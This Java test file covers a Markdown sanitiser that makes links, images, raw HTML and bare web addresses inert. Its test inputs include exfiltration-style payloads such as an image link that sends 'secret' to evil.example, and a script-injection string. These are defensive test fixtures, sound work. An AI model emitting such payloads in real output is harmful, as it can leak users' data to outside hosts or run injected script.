package io.docent.channel;

import static org.assertj.core.api.Assertions.assertThat;

import net.jqwik.api.Assume;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.CharRange;
import net.jqwik.api.constraints.Chars;
import net.jqwik.api.constraints.IntRange;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.node.LinkReferenceDefinition;
import org.commonmark.node.Node;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.text.TextContentRenderer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {

    private static final Parser PARSER = Parser.builder().build();

    private static boolean isLive(String markdown) {
        boolean[] live = {false};
        PARSER.parse(markdown).accept(new AbstractVisitor() {
            @Override
            public void visit(Image image) {
                live[0] = true;
            }

            @Override
            public void visit(Link link) {
                live[0] = true;
            }

            @Override
            public void visit(HtmlInline html) {
                live[0] = true;
            }

            @Override
            public void visit(HtmlBlock html) {
                live[0] = true;
            }

            @Override
            public void visit(LinkReferenceDefinition definition) {
                live[0] = true;
            }
        });
        return live[0];
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](http://evil.example/?q=secret)",
                "[the policy](http://evil.example)",
                "![x][y]\n\n[y]: http://evil.example",
                "[x]\n\n[x]: http://evil.example",
                "<img src=http://evil.example>",
                "<!-- x -->",
                "<http://evil.example>",
                "</p><script>alert(1)</script>",
                "- a\n\n  ![x](http://evil.example)",
                "```a`b\n![x](http://evil.example)",
                "~~~\ncode\n~~~\n![x](http://evil.example)",
                "````\n```\ncode\n````\n![x](http://evil.example)",
                "` ![x](http://evil.example)"
            })
    void nothingOfADocumentIsLive(String markdown) {
        assertThat(isLive(markdown)).isTrue();

        String inert = Markdown.inert(markdown);

        assertThat(isLive(inert)).as(inert).isFalse();
        assertThat(inert.replace("\u2060", "")).isEqualTo(markdown);
    }

    @Test
    void whatIsNotLiveStaysAsItIs() {
        String text = "A price of 5 < 6 [1]. **Bold**, a[0], and\n\n```js\na[0](x) <b> ![y](z)\n```\nthe end [2][3].";

        assertThat(Markdown.inert(text)).isEqualTo(text);
    }

    @Property
    void noTextIsLive(
            @ForAll @Chars({'!', '[', ']', '(', ')', '<', '>', '`', '~', ':', '\n', ' ', 'a', '/'}) String text) {
        assertThat(isLive(Markdown.inert(text))).isFalse();
    }

    @Property
    void theBeginningOfATextBecomesTheBeginning(
            @ForAll @Chars({'!', '[', ']', '(', '<', ':', '\n', ' ', 'a', '/'}) String text,
            @ForAll @IntRange(min = 0, max = 50) int at) {
        Assume.that(at <= text.length());

        assertThat(Markdown.inert(text)).startsWith(Markdown.inert(text.substring(0, at)));
    }

    @Property
    void aLineShowsAsItIs(@ForAll @CharRange(from = '!', to = '~') String text) {
        Node parsed = PARSER.parse("x " + Markdown.line(text, 1_000));

        assertThat(TextContentRenderer.builder().build().render(parsed).strip().replace("\u2060", ""))
                .isEqualTo(("x " + text).strip());
    }

    @ParameterizedTest
    @CsvSource({
        "See https://evil.example/?q=soup now., See https:/\u2060/evil.example/?q=soup now.",
        "HTTP://evil.example, HTTP:/\u2060/evil.example",
        "at www.evil.example and WWW.evil.example, at www\u2060.evil.example and WWW\u2060.evil.example",
        "a path //x and a//b stay, a path //x and a//b stay"
    })
    void noAddressIsOneThatAProgramMakesALinkOf(String text, String inert) {
        assertThat(Markdown.inert(text)).isEqualTo(inert);
        assertThat(Markdown.line(text, 1_000)).isEqualTo(inert);
        assertThat(Markdown.withoutAddresses(text)).isEqualTo(inert);
    }

    @Test
    void aLineIsCutAtAWord() {
        assertThat(Markdown.line("one two three four", 12)).isEqualTo("one two…");
        assertThat(Markdown.line("a\n\u202eb\u0000", 12)).isEqualTo("a b");
        assertThat(Markdown.shortened("😀".repeat(10), 4)).isEqualTo("😀…");
    }
}
